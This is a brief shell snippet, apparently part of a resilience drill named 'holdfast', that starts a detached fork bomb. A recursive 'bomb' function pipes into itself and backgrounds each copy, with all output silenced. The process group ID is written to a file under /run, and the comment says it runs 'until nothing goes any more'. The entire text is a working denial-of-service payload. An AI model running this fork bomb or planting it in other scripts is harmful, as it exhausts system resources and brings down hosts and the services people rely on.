# Doubles until nothing goes any more.
setsid sh -c '
  echo $$ >/run/holdfast-drill.group
  bomb() { bomb | bomb & }
  bomb' </dev/null >/dev/null 2>&1 &
